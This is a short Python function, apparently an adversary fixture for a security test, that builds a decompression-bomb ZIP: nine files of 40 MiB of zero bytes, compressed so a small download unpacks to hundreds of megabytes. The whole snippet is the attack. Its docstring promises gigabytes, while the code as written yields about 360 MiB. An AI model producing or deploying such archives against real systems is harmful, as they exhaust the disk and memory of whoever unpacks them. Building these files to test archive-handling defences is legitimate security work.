"""Goal: a download of a few kilobytes that becomes gigabytes."""


def download(path, secret):
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for number in range(9):
            archive.writestr(f"eve_{number}.py", bytes(40 << 20))
